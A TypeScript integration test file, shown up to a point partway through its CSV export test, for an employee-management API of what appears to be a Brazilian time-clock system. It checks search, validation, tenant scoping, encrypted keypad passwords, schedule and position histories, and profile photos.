import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, isNull, like } from 'drizzle-orm';
import { ALL_CUSTOMER_CODES, decodeIkResponse, formatCpf, funcionarioApi } from '@jornada/contracts';
import type { Deps } from '../../deps.js';
import { funcionarioEscalas, funcionarios, logOperacoes, usuarios } from '../../db/schema/index.js';
import type { AuthContext } from '../../shared/auth-context.js';
import { DEMO_ESCALAS } from '../../db/seed/escalas.js';
import { DEMO_FUNCIONARIOS } from '../../db/seed/funcionarios.js';
import {
  ADMIN,
  BETA_ADMIN,
  call,
  createTestEnv,
  describeEachBackend,
  login,
  type TestEnv,
} from '../../../test/harness.js';
import { demoIds, userWithScope, type DemoIds } from '../../../test/scope-fixtures.js';
import { ativos, jpeg, limitarPlano, novoFuncionario, refsDoTenant } from '../../../test/funcionario-fixtures.js';
import { funcionariosService } from './funcionarios.service.js';

const M = funcionarioApi.FUNCIONARIO_MSG;
const E = DEMO_ESCALAS.demo;

/** A caller of a service without HTTP (the clock export has no route yet). */
const authDe = (u: { tenantId: number; userId: number }): AuthContext => ({
  sessionId: 0,
  tenantId: u.tenantId,
  userId: u.userId,
  nome: 'Teste',
  email: 'teste@jornada.demo',
  nomeLogin: 'teste@jornada.demo',
  permissoes: new Set([0, ...ALL_CUSTOMER_CODES]),
});

/** T0 = 10/03/2026 09:00 in São Paulo: the company calendar's today. */
const HOJE = '2026-03-10';

describeEachBackend('funcionarios', (backend) => {
  let env: TestEnv;
  let admin: string;
  let beta: string;
  let ids: DemoIds;
  let refs: Awaited<ReturnType<typeof refsDoTenant>>;
  let base: { cnpj: number; centroCusto: number; cargo: number; escala: number };
  let n = 0;

  beforeAll(async () => {
    env = await createTestEnv(backend);
    admin = await login(env.app, ADMIN);
    beta = await login(env.app, BETA_ADMIN);
    ids = await demoIds(env);
    refs = await refsDoTenant(env, ids.demo);
    base = {
      cnpj: ids.principal,
      centroCusto: ids.cc.get('Turno A')!,
      cargo: refs.cargos.get('Operador de Máquinas')!,
      escala: refs.escalas.get(E.producao6x1)!,
    };
  });
  afterAll(() => env.close());

  /** Runs `fn` `dias` days later; sessions are opened again after coming back (they expire meanwhile). */
  async function depoisDe<T>(dias: number, fn: () => Promise<T>): Promise<T> {
    env.clock.advanceMs(dias * 86_400_000);
    try {
      admin = await login(env.app, ADMIN);
      return await fn();
    } finally {
      env.clock.advanceMs(-dias * 86_400_000);
      admin = await login(env.app, ADMIN);
      beta = await login(env.app, BETA_ADMIN);
    }
  }

  const post = (path: string, body: unknown, token = admin) => call(env.app, path, body, { token });
  const listar = (body: Record<string, unknown>, token = admin) =>
    post('/api/funcionario/listar', { idCnpj: ids.principal, ...body }, token);
  const salvar = async (over: Record<string, unknown> = {}, extra: Record<string, unknown> = {}) =>
    post('/api/funcionario/salvar', { ...novoFuncionario(++n, base, over), ...extra });
  const buscar = async (id: number) => (await post('/api/funcionario/buscar', { idFuncionario: id })).body;

  describe('listar', () => {
    it('pede a empresa com a mensagem do seed', async () => {
      const r = await post('/api/funcionario/listar', { qtdLinhas: 10, numPagina: 0 });
      expect(r.status).toBe(400);
      expect(r.body.mensagem).toContain(M.selecioneEmpresa);
    });

    it('pagina no servidor por nome, com o total e as colunas da tela', async () => {
      const p0 = await listar({ qtdLinhas: 10, numPagina: 0 });
      const p1 = await listar({ qtdLinhas: 10, numPagina: 1 });
      expect(p0.status).toBe(200);
      expect(p0.body.qdtFuncionarios).toBeGreaterThan(20);
      expect(p0.body.funcionarios).toHaveLength(10);
      const nomes = [...p0.body.funcionarios, ...p1.body.funcionarios].map((f: { nome: string }) => f.nome);
      expect(nomes).toEqual([...nomes].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
      expect(new Set(nomes).size).toBe(20);
      const row = p0.body.funcionarios[0];
      expect(row).toMatchObject({ cracha: expect.any(String), centroCusto: expect.any(String), ativo: true });
      expect(row.cargo).toEqual(expect.any(String));
      expect(row.escala).toEqual(expect.any(String));
      expect(row.dataCadastro).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      const alem = await listar({ qtdLinhas: 30, numPagina: 50 });
      expect(alem.body).toEqual({ qdtFuncionarios: p0.body.qdtFuncionarios, funcionarios: [] });
    });

    it('busca por nome sem acentos e por começo de palavra, por crachá (com zeros), CPF formatado e PIS', async () => {
      const alvo = (await listar({ crachaNome: DEMO_FUNCIONARIOS.comHistorico, qtdLinhas: 30 })).body.funcionarios[0];
      expect(alvo.nome).toBe(DEMO_FUNCIONARIOS.comHistorico);
      const achou = async (crachaNome: string) =>
        (await listar({ crachaNome, qtdLinhas: 30 })).body.funcionarios.map((f: { id: number }) => f.id);
      expect(await achou('carl edu ramo')).toContain(alvo.id);
      expect(await achou('CARLOS   eduardo!!')).toContain(alvo.id);
      expect(await achou(alvo.cracha)).toEqual([alvo.id]);
      expect(await achou(alvo.cracha.padStart(14, '0'))).toEqual([alvo.id]);
      expect(await achou(formatCpf(alvo.cpf))).toEqual([alvo.id]);
      expect(await achou(alvo.cpf.slice(0, 6))).toContain(alvo.id);
      expect(await achou(alvo.pis)).toEqual([alvo.id]);
      expect(await achou('xyzninguem')).toEqual([]);
      // Accents are ignored both ways.
      const r = await salvar({ nome: 'Joaquim Conceição Araújo' });
      expect(r.status).toBe(200);
      expect(await achou('conceicao araujo')).toContain(r.body.id);
      expect(await achou('CONCEIÇÃO')).toContain(r.body.id);
    });

    it('filtra por centro de custo com os filhos e por ativo; mostra quem aguarda ativação', async () => {
      const producao = await listar({ idsCentrosCustos: [ids.cc.get('Produção')], qtdLinhas: 100 });
      const turnoA = await listar({ idsCentrosCustos: [ids.cc.get('Turno A')], qtdLinhas: 100 });
      expect(producao.body.qdtFuncionarios).toBeGreaterThan(turnoA.body.qdtFuncionarios);
      expect(turnoA.body.funcionarios.every((f: { centroCusto: string }) => f.centroCusto === 'Turno A')).toBe(true);
      const centros = new Set(producao.body.funcionarios.map((f: { centroCusto: string }) => f.centroCusto));
      expect([...centros].sort()).toEqual(expect.arrayContaining(['Turno A', 'Turno B', 'Montagem']));
      const inativos = await listar({ ativo: false, qtdLinhas: 100 });
      expect(inativos.body.funcionarios.map((f: { nome: string }) => f.nome)).toContain(DEMO_FUNCIONARIOS.demitido);
      expect(inativos.body.funcionarios.every((f: { ativo: boolean }) => !f.ativo)).toBe(true);
      const aguardando = await listar({ crachaNome: DEMO_FUNCIONARIOS.aguardandoAtivacao });
      expect(aguardando.body.funcionarios[0]).toMatchObject({ aguardandoAtivacao: true });
    });

    it('o total acompanha cadastros, inativações e mudanças de nome (contagem em cache por versão)', async () => {
      const total = async (body: Record<string, unknown> = {}) =>
        (await listar({ qtdLinhas: 1, ...body })).body.qdtFuncionarios;
      const [ativos0, inativos0, busca0] = [
        await total(),
        await total({ ativo: false }),
        await total({ crachaNome: 'Zebedeu' }),
      ];
      const id = (await salvar({ nome: 'Zebedeu Contado' })).body.id;
      expect([await total(), await total({ crachaNome: 'Zebedeu' })]).toEqual([ativos0 + 1, busca0 + 1]);
      const b = await buscar(id);
      await post('/api/funcionario/alterar', {
        funcionario: { ...b.funcionario, nome: 'Outro Nome', ativo: false },
        centroCusto: { id: b.centroCusto.id },
      });
      expect([await total(), await total({ ativo: false }), await total({ crachaNome: 'Zebedeu' })]).toEqual([
        ativos0,
        inativos0 + 1,
        busca0,
      ]);
    });

    it('a ordem e as páginas acompanham uma mudança de nome (resultado em cache por versão)', async () => {
      const pagina = async (numPagina: number) =>
        (await listar({ qtdLinhas: 10, numPagina })).body.funcionarios.map((f: { id: number }) => f.id);
      const todas = async () => {
        const out: number[] = [];
        for (let p = 0; ; p++) {
          const ids = await pagina(p);
          if (ids.length === 0) return out;
          out.push(...ids);
        }
      };
      const antes = await todas();
      // Read twice: the second read is served from the cached result set.
      expect(await todas()).toEqual(antes);
      const ultimo = antes[antes.length - 1]!;
      const b = await buscar(ultimo);
      const r = await post('/api/funcionario/alterar', {
        funcionario: { ...b.funcionario, nome: 'Aaron Primeiro da Lista' },
        centroCusto: { id: b.centroCusto.id },
      });
      expect(r.status).toBe(200);
      expect(await todas()).toEqual([ultimo, ...antes.slice(0, -1)]);
    });

    it('respeita o escopo: empresa de outro cliente 404; usuário limitado a um setor vê só o setor', async () => {
      expect((await listar({}, beta)).status).toBe(404);
      const limitado = await userWithScope(env, {
        tenantId: ids.demo,
        cnpjIds: [ids.principal],
        centroCustoIds: [ids.cc.get('Turno B')!],
      });
      const r = await listar({ qtdLinhas: 100 }, limitado.token);
      expect(r.body.qdtFuncionarios).toBeGreaterThan(0);
      expect(r.body.funcionarios.every((f: { centroCusto: string }) => f.centroCusto === 'Turno B')).toBe(true);
    });
  });

  describe('salvar e buscar', () => {
    it('grava funcionário, primeira escala e primeiro cargo numa transação; buscar devolve tudo', async () => {
      const r = await salvar({}, { dataInicioContrato: '2026-03-05' });
      expect(r.status).toBe(200);
      expect(r.body.mensagem).toContain(M.salvo);
      const b = await buscar(r.body.id);
      expect(b.funcionario).toMatchObject({
        nome: `Teste ${n} Silva`,
        semPis: false,
        ativo: true,
        aguardandoAtivacao: false,
        dataAtivacao: HOJE,
        fotoPerfil: false,
        cargo: { nome: 'Operador de Máquinas' },
        escala: { descricao: E.producao6x1, tipo: expect.any(Number) },
      });
      expect(b.funcioContratos).toEqual([
        expect.objectContaining({
          dataInicio: '2026-03-05',
          dataFinal: null,
          contrato: expect.objectContaining({ id: base.escala }),
        }),
      ]);
      expect(b.funcioCargos).toEqual([expect.objectContaining({ dataInicio: '2026-03-02', dataFinal: null })]);
      expect(b.cnpj.id).toBe(ids.principal);
      expect(b.centroCusto.nome).toBe('Turno A');
      expect(b.centrosCustos.map((c: { nome: string }) => c.nome)).toContain('Turno A');
      expect(b.motivoAfastamento).toBeNull();
    });

    it('diz as mensagens do seed: pis, cpf, crachá, registro, empresa, cargo, centro de custo, escala', async () => {
      const r = await post('/api/funcionario/salvar', {
        funcionario: { nome: ' ', pis: '', cpf: '', cracha: '', registro: '', dataAdmissao: '2026-03-02' },
        cnpj: null,
        cargo: null,
        centroCusto: null,
        contrato: null,
      });
      expect(r.status).toBe(400);
      for (const m of [M.informeNome, M.informeCpf, M.informeCracha, M.informeRegistro])
        expect(r.body.mensagem).toContain(m);
      const um = async (over: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
        (await salvar(over, extra)).body.mensagem;
      expect(await um({ pis: '' })).toContain(M.informePis);
      expect(await um({ pis: '12345678901' })).toContain(M.pisInvalido);
      expect(await um({ cpf: '123.456.789-00' })).toContain(M.cpfInvalido);
      expect(await um({ cracha: '' })).toContain(M.informeCracha);
      expect(await um({ registro: '' })).toContain(M.informeRegistro);
      expect(await um({ senhaTecladoSemBio: '12a4' })).toContain(M.senhaTeclado);
      expect(await um({ nomeCurto: 'Nome curto demais' })).toContain(M.maximo('Nome reduzido', 12));
      expect(await um({}, { cargo: null })).toContain(M.selecioneCargo);
      expect(await um({}, { centroCusto: {} })).toContain(M.selecioneCentroCusto);
      expect(await um({}, { contrato: { id: 0 } })).toContain(M.selecioneEscala);
      expect(await um({ dataNascimento: '1930-01-01' })).toContain(
        M.anoForaDoIntervalo('Data de nascimento', 1936, 2026),
      );
      expect(await um({ dataAdmissao: '2027-01-02' })).toContain(M.anoForaDoIntervalo('Data de admissão', 1936, 2026));
    });

    it('PIS vazio com semPis (primeiro emprego desde 2024); PIS e CPF chegam formatados e são gravados só dígitos', async () => {
      const r = await salvar({ pis: '', semPis: true, cpf: formatCpf(novoFuncionario(n + 1, base).funcionario.cpf) });
      expect(r.status).toBe(200);
      const b = await buscar(r.body.id);
      expect(b.funcionario).toMatchObject({ pis: null, semPis: true, cpf: expect.stringMatching(/^\d{11}$/) });
    });

    it('CPF único entre os ativos da empresa (400), livre em outra empresa do cliente e depois de inativado', async () => {
      const primeiro = await salvar();
      const cpf = novoFuncionario(n, base).funcionario.cpf;
      const repetido = await salvar({ cpf });
      expect(repetido.status).toBe(400);
      expect(repetido.body.mensagem).toContain(M.cpfJaCadastrado);
      const crachaRepetido = await salvar({ cracha: novoFuncionario(n - 2, base).funcionario.cracha });
      expect(crachaRepetido.body.mensagem).toContain(M.crachaJaCadastrado);
      const campinas = await post('/api/funcionario/salvar', {
        ...novoFuncionario(++n, base, { cpf }),
        cnpj: { id: ids.campinas },
        centroCusto: { id: ids.cc.get('Armazém') },
      });
      expect(campinas.status).toBe(200);
      // Inactivated, the CPF is free again in the same company (re-hiring).
      const b = await buscar(primeiro.body.id);
      const inativar = await post('/api/funcionario/alterar', {
        funcionario: { ...b.funcionario, ativo: false, dataDemissao: '2026-03-09' },
        centroCusto: { id: b.centroCusto.id },
      });
      expect(inativar.status).toBe(200);
      expect((await salvar({ cpf })).status).toBe(200);
    });

    it('centro de custo de outra empresa 400; de outro cliente 404; fora do escopo 404, ancestral 403', async () => {
      const outro = await salvar({}, { centroCusto: { id: ids.cc.get('Armazém') } });
      expect(outro.status).toBe(400);
      expect(outro.body.mensagem).toContain(M.centroCustoDeOutraEmpresa);
      expect((await salvar({}, { centroCusto: { id: ids.cc.get('Soldagem') } })).status).toBe(404);
      const limitado = await userWithScope(env, {
        tenantId: ids.demo,
        cnpjIds: [ids.principal],
        centroCustoIds: [ids.cc.get('Turno B')!],
      });
      const comoLimitado = (cc: string) =>
        post(
          '/api/funcionario/salvar',
          novoFuncionario(++n, { ...base, centroCusto: ids.cc.get(cc)! }),
          limitado.token,
        );
      expect((await comoLimitado('Turno A')).status).toBe(404);
      expect((await comoLimitado('Montagem')).status).toBe(403);
      expect((await comoLimitado('Turno B')).status).toBe(200);
    });

    it('agenda a ativação de amanhã a +6 dias: aguardando até lá, sem nenhum job', async () => {
      const fora = await salvar({ agendarAtivacao: true, dataAtivacao: '2026-03-17' });
      expect(fora.body.mensagem).toContain(M.dataAtivacaoForaDaJanela('2026-03-11', '2026-03-16'));
      expect((await salvar({ agendarAtivacao: true, dataAtivacao: null })).body.mensagem).toContain(
        M.informeDataAtivacao,
      );
      const r = await salvar({ agendarAtivacao: true, dataAtivacao: '2026-03-12' });
      expect(r.status).toBe(200);
      expect((await buscar(r.body.id)).funcionario).toMatchObject({
        aguardandoAtivacao: true,
        dataAtivacao: '2026-03-12',
      });

      const mudar = (dataAtivacao: string, id = r.body.id) =>
        post('/api/funcionario/alterar-data-ativacao', { idFuncionario: id, dataAtivacao });
      expect((await mudar('2026-03-10')).body.mensagem).toContain(
        M.dataAtivacaoForaDaJanela('2026-03-11', '2026-03-16'),
      );
      expect((await mudar('2026-03-15')).status).toBe(200);
      expect((await buscar(r.body.id)).funcionario.dataAtivacao).toBe('2026-03-15');
      const ativo = (await salvar()).body.id;
      expect((await mudar('2026-03-12', ativo)).body.mensagem).toContain(M.naoAguardandoAtivacao);

      await depoisDe(5, async () => expect((await buscar(r.body.id)).funcionario.aguardandoAtivacao).toBe(false));
    });

    it('limite de funcionários ativos do plano: 400 com a mensagem; reativar também conta', async () => {
      const atual = await ativos(env, ids.demo);
      await limitarPlano(env, ids.demo, atual);
      try {
        const r = await salvar();
        expect(r.status).toBe(400);
        expect(r.body.mensagem).toContain(M.limiteFuncionarios(atual));
        const demitido = refs.funcionarios.get(DEMO_FUNCIONARIOS.demitido)!;
        const b = await buscar(demitido);
        const reativar = await post('/api/funcionario/alterar', {
          funcionario: { ...b.funcionario, ativo: true },
          centroCusto: { id: b.centroCusto.id },
        });
        expect(reativar.body.mensagem).toContain(M.limiteFuncionarios(atual));
      } finally {
        await limitarPlano(env, ids.demo, 50_000);
      }
    });
  });

  describe('alterar', () => {
    it('altera dados, centro de custo, status e situação (afastamento aberto e fechado)', async () => {
      const id = (await salvar()).body.id;
      const b = await buscar(id);
      const doenca = refs.motivos.get('Doença')!;
      const r = await post('/api/funcionario/alterar', {
        funcionario: { ...b.funcionario, nome: 'Nome Alterado', email: null },
        centroCusto: { id: ids.cc.get('Turno B') },
        motivoAfastamento: { id: doenca },
        cnpj: b.cnpj,
      });
      expect(r.status).toBe(200);
      const depois = await buscar(id);
      expect(depois.funcionario).toMatchObject({ nome: 'Nome Alterado', email: null });
      expect(depois.centroCusto.nome).toBe('Turno B');
      expect(depois.motivoAfastamento).toMatchObject({ id: doenca, descricao: 'Doença' });
      // Company, position and schedule do not change through alterar.
      expect(depois.funcionario.cargo).toEqual(b.funcionario.cargo);

      await depoisDe(3, async () => {
        const r2 = await post('/api/funcionario/alterar', {
          funcionario: depois.funcionario,
          centroCusto: { id: depois.centroCusto.id },
          motivoAfastamento: null,
        });
        expect(r2.status).toBe(200);
      });
      const historico = await call(env.app, `/api/afastamento/listar-historico?idf=${id}`, undefined, {
        token: admin,
        method: 'GET',
      });
      expect(historico.status).toBe(200);
      expect(historico.body).toEqual([
        expect.objectContaining({
          dataInicio: HOJE,
          dataFinal: '2026-03-12',
          motivo: expect.objectContaining({ id: doenca }),
        }),
      ]);
      expect((await buscar(id)).motivoAfastamento).toBeNull();
    });

    it('demissão antes da admissão 400; inativar com motivo definitivo abre o afastamento na demissão', async () => {
      const id = (await salvar()).body.id;
      const b = await buscar(id);
      const antes = await post('/api/funcionario/alterar', {
        funcionario: { ...b.funcionario, ativo: false, dataDemissao: '2026-03-01' },
        centroCusto: { id: b.centroCusto.id },
      });
      expect(antes.body.mensagem).toContain(M.demissaoAntesDaAdmissao);
      const demissao = refs.motivos.get('Demissão')!;
      const r = await post('/api/funcionario/alterar', {
        funcionario: { ...b.funcionario, ativo: false, dataDemissao: '2026-03-08' },
        centroCusto: { id: b.centroCusto.id },
        motivoAfastamento: { id: demissao },
      });
      expect(r.status).toBe(200);
      const depois = await buscar(id);
      expect(depois.funcionario).toMatchObject({ ativo: false, dataDemissao: '2026-03-08' });
      const h = await call(env.app, `/api/afastamento/listar-historico?idf=${id}`, undefined, {
        token: admin,
        method: 'GET',
      });
      expect(h.body[0]).toMatchObject({ dataInicio: '2026-03-08', dataFinal: null });
    });

    it('listar-afastamentos devolve os motivos do cliente', async () => {
      const r = await post('/api/funcionario/listar-afastamentos', {});
      expect(r.status).toBe(200);
      expect(r.body.map((m: { descricao: string }) => m.descricao)).toEqual(
        expect.arrayContaining(['Doença', 'Férias']),
      );
      const rb = await post('/api/funcionario/listar-afastamentos', {}, beta);
      expect(rb.body.length).toBeLessThan(r.body.length);
    });
  });

  describe('senha do teclado (decision 0065)', () => {
    const guardada = async (id: number) =>
      (
        await env.database.owner
          .select({ s: funcionarios.senhaTecladoCifrada })
          .from(funcionarios)
          .where(eq(funcionarios.id, id))
      )[0]!.s;
    /** The clock export's read, as the future export will call it (the app's own key: the env's data folder). */
    const paraRelogio = (ids: number[], token?: { tenantId: number; userId: number }) =>
      funcionariosService({
        db: env.database.app,
        clock: env.clock,
        config: env.config,
      } as unknown as Deps).senhasTecladoParaRelogio(authDe(token ?? adminAuth), ids);
    let adminAuth: { tenantId: number; userId: number };
    beforeAll(async () => {
      const [u] = await env.database.owner.select().from(usuarios).where(eq(usuarios.email, ADMIN));
      adminAuth = { tenantId: u!.tenantId, userId: u!.id };
    });

    it('buscar nunca devolve a senha, só se há uma; o banco guarda a senha cifrada, não a senha', async () => {
      const r = await salvar({ senhaTecladoSemBio: '8642' });
      expect(r.status).toBe(200);
      const b = await buscar(r.body.id);
      expect(b.funcionario.possuiSenhaTeclado).toBe(true);
      expect(b.funcionario).not.toHaveProperty('senhaTecladoSemBio');
      expect(JSON.stringify(b)).not.toContain('8642');
      const gravada = await guardada(r.body.id);
      expect(gravada).not.toBe('8642');
      expect(gravada).not.toContain('8642');
      expect(gravada).toMatch(/^c1\./);
      // Only the clock's read opens it.
      expect(await paraRelogio([r.body.id])).toEqual(new Map([[r.body.id, '8642']]));
      const sem = await salvar({ senhaTecladoSemBio: '' });
      expect((await buscar(sem.body.id)).funcionario.possuiSenhaTeclado).toBe(false);
      expect(await guardada(sem.body.id)).toBeNull();
      expect(await paraRelogio([sem.body.id])).toEqual(new Map());
    });

    it('alterar: em branco mantém a senha; uma nova a troca; remover a apaga; o log nunca a escreve', async () => {
      const { id } = (await salvar({ senhaTecladoSemBio: '1357' })).body;
      const alterar = async (over: Record<string, unknown>) => {
        const b = await buscar(id);
        const r = await post('/api/funcionario/alterar', {
          funcionario: { ...b.funcionario, ...over },
          centroCusto: { id: b.centroCusto.id },
        });
        expect(r.status, JSON.stringify(r.body)).toBe(200);
      };
      const antes = await guardada(id);
      await alterar({ nome: 'Senha Mantida Silva', senhaTecladoSemBio: '' });
      expect(await guardada(id)).toBe(antes);
      await alterar({ senhaTecladoSemBio: null });
      expect(await guardada(id)).toBe(antes);
      expect(await paraRelogio([id])).toEqual(new Map([[id, '1357']]));
      await alterar({ senhaTecladoSemBio: '2468' });
      expect(await paraRelogio([id])).toEqual(new Map([[id, '2468']]));
      await alterar({ removerSenhaTeclado: true });
      expect(await guardada(id)).toBeNull();
      expect((await buscar(id)).funcionario.possuiSenhaTeclado).toBe(false);
      const log = await env.database.owner
        .select()
        .from(logOperacoes)
        .where(like(logOperacoes.descricao, '%Senha Mantida Silva%'));
      expect(log.map((l) => l.descricao).join('\n')).toMatch(
        /senha do teclado alterada[\s\S]*senha do teclado removida/,
      );
      expect(log.some((l) => /1357|2468/.test(l.descricao))).toBe(false);
    });

    it('a leitura para o relógio segue o escopo do usuário', async () => {
      const { id } = (await salvar({ senhaTecladoSemBio: '9753' })).body;
      const fora = await userWithScope(env, { tenantId: ids.demo, cnpjIds: [ids.campinas] });
      expect(await paraRelogio([id], { tenantId: ids.demo, userId: fora.userId })).toEqual(new Map());
    });
  });

  describe('históricos', () => {
    it('trocar-contrato: nova escala a partir de uma data, a atual termina no dia anterior', async () => {
      const id = (await salvar()).body.id;
      const nova = refs.escalas.get(E.comercial44h)!;
      const trocar = (body: Record<string, unknown>) =>
        post('/api/funcionario/trocar-contrato', {
          funcionario: { id },
          contrato: { id: nova },
          dataInicio: '2026-04-01',
          ...body,
        });
      expect((await trocar({ dataInicio: '2026-03-02' })).body.mensagem).toContain(M.dataInicioPosterior('2026-03-02'));
      expect((await trocar({ contrato: { id: base.escala } })).body.mensagem).toContain(M.escalaIgual);
      expect((await trocar({})).status).toBe(200);
      const h = (await buscar(id)).funcioContratos;
      expect(h.map((x: { dataInicio: string; dataFinal: string | null }) => [x.dataInicio, x.dataFinal])).toEqual([
        ['2026-04-01', null],
        ['2026-03-02', '2026-03-31'],
      ]);
      expect((await buscar(id)).funcionario.escala.id).toBe(nova);
    });

    it('trocar-excluir-contrato troca a escala do registro atual ou o exclui (o anterior volta a ser o atual)', async () => {
      const id = (await salvar()).body.id;
      const [c44, c40] = [refs.escalas.get(E.comercial44h)!, refs.escalas.get(E.administrativo40h)!];
      const soUma = (await buscar(id)).funcioContratos[0];
      const excluirUnica = await post('/api/funcionario/trocar-excluir-contrato', {
        funcionario: { id },
        funcionarioContratoAtual: { id: soUma.id },
        funcionarioContratoNovo: null,
      });
      expect(excluirUnica.body.mensagem).toContain(M.unicaEscala);
      await post('/api/funcionario/trocar-contrato', {
        funcionario: { id },
        contrato: { id: c44 },
        dataInicio: '2026-04-01',
      });
      const [atual, anterior] = (await buscar(id)).funcioContratos;
      const naoAtual = await post('/api/funcionario/trocar-excluir-contrato', {
        funcionario: { id },
        funcionarioContratoAtual: { id: anterior.id },
        funcionarioContratoNovo: { contrato: { id: c40 } },
      });
      expect(naoAtual.body.mensagem).toContain(M.somenteAtual);
      const trocar = await post('/api/funcionario/trocar-excluir-contrato', {
        funcionario: { id },
        funcionarioContratoAtual: { id: atual.id },
        funcionarioContratoNovo: { contrato: { id: c40 } },
      });
      expect(trocar.status).toBe(200);
      expect((await buscar(id)).funcioContratos[0]).toMatchObject({ dataInicio: '2026-04-01', contrato: { id: c40 } });
      const excluir = await post('/api/funcionario/trocar-excluir-contrato', {
        funcionario: { id },
        funcionarioContratoAtual: { id: atual.id },
        funcionarioContratoNovo: null,
      });
      expect(excluir.status).toBe(200);
      expect((await buscar(id)).funcioContratos).toEqual([
        expect.objectContaining({
          id: anterior.id,
          dataFinal: null,
          contrato: expect.objectContaining({ id: base.escala }),
        }),
      ]);
    });

    it('alterar-data-inicio-contrato move o início da atual e o fim da anterior', async () => {
      const id = (await salvar()).body.id;
      await post('/api/funcionario/trocar-contrato', {
        funcionario: { id },
        contrato: { id: refs.escalas.get(E.comercial44h) },
        dataInicio: '2026-04-01',
      });
      const [atual] = (await buscar(id)).funcioContratos;
      const mover = (dataInicio: string) =>
        post('/api/funcionario/alterar-data-inicio-contrato', {
          funcionario: { id },
          funcionarioContrato: { id: atual.id },
          dataInicio,
        });
      expect((await mover('2026-03-02')).body.mensagem).toContain(M.dataInicioPosterior('2026-03-02'));
      expect((await mover('2026-03-20')).status).toBe(200);
      const h = (await buscar(id)).funcioContratos;
      expect(h.map((x: { dataInicio: string; dataFinal: string | null }) => [x.dataInicio, x.dataFinal])).toEqual([
        ['2026-03-20', null],
        ['2026-03-02', '2026-03-19'],
      ]);
    });

    it('funcionario-cargo: novo cargo a partir de uma data (ehHistorico) ou troca do atual sem data', async () => {
      const id = (await salvar()).body.id;
      const [atual] = (await buscar(id)).funcioCargos;
      const supervisor = refs.cargos.get('Supervisor de Produção')!;
      const motorista = refs.cargos.get('Motorista')!;
      const cargo = (body: Record<string, unknown>) =>
        post('/api/funcionario-cargo', { idCargoNovo: supervisor, idCargoFuncionarioAntigo: atual.id, ...body });
      expect((await cargo({ ehHistorico: true })).body.mensagem).toContain(M.informeDataInicio);
      expect((await cargo({ idCargoNovo: base.cargo })).body.mensagem).toContain(M.cargoIgual);
      expect((await cargo({ ehHistorico: false })).status).toBe(200);
      expect((await buscar(id)).funcioCargos).toEqual([
        expect.objectContaining({ id: atual.id, dataFinal: null, cargo: expect.objectContaining({ id: supervisor }) }),
      ]);
      expect((await cargo({ idCargoNovo: motorista, ehHistorico: true, dataInicio: '2026-05-01' })).status).toBe(200);
      const h = (await buscar(id)).funcioCargos;
      expect(h.map((x: { dataInicio: string; dataFinal: string | null }) => [x.dataInicio, x.dataFinal])).toEqual([
        ['2026-05-01', null],
        ['2026-03-02', '2026-04-30'],
      ]);
      // The old entry is no longer the current one.
      expect((await cargo({ idCargoNovo: supervisor })).body.mensagem).toContain(M.somenteAtual);
      expect((await buscar(id)).funcionario.cargo.id).toBe(motorista);
    });
  });

  describe('foto', () => {
    it('só JPEG de até 640×480; GET devolve image/jpeg; excluir volta ao 404', async () => {
      const id = (await salvar()).body.id;
      const foto = (b64: string) =>
        post('/api/funcionario/alterar-foto-perfil', {
          funcionario: { id },
          numeroCnpj: '11222333000181',
          imagemPerfilBase64: b64,
        });
      const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').toString('base64');
      expect((await foto(png)).body.mensagem).toContain(M.fotoTipo);
      expect((await foto('não é base64')).body.mensagem).toContain(M.fotoTipo);
      expect((await foto(jpeg(641, 480).toString('base64'))).body.mensagem).toContain(M.fotoTamanho);
      expect((await foto(jpeg(640, 481).toString('base64'))).body.mensagem).toContain(M.fotoTamanho);
      const get = () =>
        call(env.app, `/api/funcionario/buscar-foto-perfil/${id}`, undefined, { token: admin, method: 'GET' });
      expect((await get()).status).toBe(404);
      const img = jpeg(130, 98);
      expect((await foto(`data:image/jpeg;base64,${img.toString('base64')}`)).status).toBe(200);
      const g = await get();
      expect(g.status).toBe(200);
      expect(g.res.headers['content-type']).toBe('image/jpeg');
      expect(g.res.rawPayload.equals(img)).toBe(true);
      expect((await buscar(id)).funcionario.fotoPerfil).toBe(true);
      expect((await post('/api/funcionario/excluir-foto-perfil', { funcionario: { id } })).status).toBe(200);
      expect((await get()).status).toBe(404);
      // Another tenant's admin does not see it.
      const gb = await call(env.app, `/api/funcionario/buscar-foto-perfil/${id}`, undefined, {
        token: beta,
        method: 'GET',
      });
      expect(gb.status).toBe(404);
    });

    it('salvar com foto grava a foto na mesma transação', async () => {
      const r = await salvar({}, { imagemPerfilBase64: jpeg(130, 100).toString('base64') });
      expect(r.status).toBe(200);
      expect((await buscar(r.body.id)).funcionario.fotoPerfil).toBe(true);
      const ruim = await salvar({}, { imagemPerfilBase64: jpeg(800, 600).toString('base64') });
      expect(ruim.body.mensagem).toContain(M.fotoTamanho);
    });
  });

  describe('exportar-csv', () => {
    const exportar = (body: Record<string, unknown>, token = admin) =>
      post('/api/funcionario/exportar-csv', { opcaoExportar: 'TODOS', idCnpj: ids.principal, ...body }, token);

    it('TODOS: ISO-8859-1, ";", com cabeçalho, no layout da importação, ativos e inativos', async () => {
      const r = await exportar({});
      expect(r.status).toBe(200);
      expect(r.res.headers['content-type']).toBe('text/csv; charset=ISO-8859-1');
      const ik = decodeIkResponse(String(r.res.headers['ik-response']));
      expect(ik).toMatchObject({ status: 'OK', nomeArquivo: '11222333000181.csv' });
      const texto = r.res.rawPayload.toString('latin1');
      const [cabecalho, ...linhas] = texto.split('\r\n').filter(Boolean);
      // The header names each column (issue 24 §6), in the import's order.
      expect(cabecalho).toBe(
        'Nome;PIS;CPF;Crachá;Registro;Data de admissão;Cargo;Centro de custo;Senha do teclado;Data de nascimento;E-mail',
      );
      const total =
        (await listar({ ativo: true, qtdLinhas: 1 })).body.qdtFuncionarios +
        (await listar({ ativo: false, qtdLinhas: 1 })).body.qdtFuncionarios;
      expect(linhas).toHaveLength(total);
      // Accented names are single Latin-1 bytes.
      expect(r.res.rawPayload.includes(Buffer.from('Araújo', 'latin1'))).toBe(true);
      expect(r.res.rawPayload.includes(Buffer.from('Araújo', 'utf8'))).toBe(false);
      const alvo = (await listar({ crachaNome: DEMO_FUNCIONARIOS.comHistorico })).body.funcionarios[0];
      const b = await buscar(alvo.id);
      const linha = linhas.find((l) => l.startsWith(`${DEMO_FUNCIONARIOS.comHistorico};`))!.split(';');
